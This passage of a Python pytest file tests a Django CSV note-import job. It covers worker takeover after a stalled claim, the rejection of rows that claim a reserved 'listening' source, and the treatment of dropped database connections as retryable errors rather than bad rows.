    body = HEAD + "need,One,phone,W-1,,lucia\nrant,Bad one,phone,W-2,,lucia\n"  # chunk 1 (rows 2-3)
    body += "rant,Bad two,phone,W-3,,lucia\nneed,Four,phone,W-4,,lucia\n"  # chunk 2 (rows 4-5)
    body += "need,Five,phone,W-5,,lucia\n"  # chunk 3 (row 6)
    job = upload(client_for("lead"), body)
    real = imports.import_notes
    taken: list[import_jobs.Claim] = []

    def import_notes(**kwargs):
        asked = kwargs["should_stop"]

        def should_stop() -> bool:
            if not taken:  # after chunk 1 the old worker looks dead and another takes the job over
                ImportJob.objects.filter(pk=job.pk).update(progress_at=timezone.now() - timedelta(hours=1))
                claim = import_jobs._claim(job.pk, timezone.now())
                assert claim
                taken.append(claim)
            return asked()

        return real(**{**kwargs, "should_stop": should_stop})

    monkeypatch.setattr(imports, "import_notes", import_notes)
    job = import_jobs.run_import_job(job.pk)  # its chunk 2 is refused (LostClaim) and undone
    assert (job.status, job.last_row, job.created, job.invalid) == ("running", 3, 1, 1)
    assert job.progress_at == taken[0].token and job.file
    assert list(Insight.objects.values_list("external_id", flat=True)) == ["W-1"]
    assert os.path.getsize(job.error_file.path) == job.error_file_size and listed_rows(job) == ["3"]

    monkeypatch.setattr(imports, "import_notes", real)
    job = import_jobs._run_claimed(job, taken[0], time_budget=None)  # the new worker carries on
    assert (job.status, job.rows, job.created, job.duplicates, job.invalid) == ("done", 5, 3, 0, 2)
    assert listed_rows(job) == ["3", "4"]


def test_a_row_may_not_use_a_source_the_product_writes_itself(tmp_path, agent):
    """Issue 12: a CSV row with source=listening could take over a colleague's listening idea."""
    path = tmp_path / "notes.csv"
    path.write_text(
        "kind,text,channel,source,external_id\n"
        "need,Wants a cheaper plan,phone,listening,listening-1\n"
        "need,Wants a cheaper plan,phone,crm,crm-1\n",
        encoding="utf-8",
    )
    report = imports.import_notes(stream=path.open("rb"), default_agent=agent)
    assert (report.created, report.invalid) == (1, 1)
    assert [p.field for p in report.problems] == ["source"]
    assert not Insight.objects.filter(source="listening").exists()


def test_a_dropped_connection_while_building_a_row_is_not_reported_as_a_bad_row(tmp_path, agent, monkeypatch):
    """The connection, not the row: the error reaches the job runner, which keeps the job for a retry."""
    from django.db import OperationalError

    def dropped(*args, **kwargs):
        raise OperationalError("server closed the connection unexpectedly")

    monkeypatch.setattr(imports.services, "build_note", dropped)
    path = tmp_path / "notes.csv"
    path.write_text("kind,text,channel\nneed,Wants a cheaper plan,phone\n", encoding="utf-8")
    with pytest.raises(OperationalError):
        imports.import_notes(stream=path.open("rb"), default_agent=agent)
    assert not Insight.objects.exists()
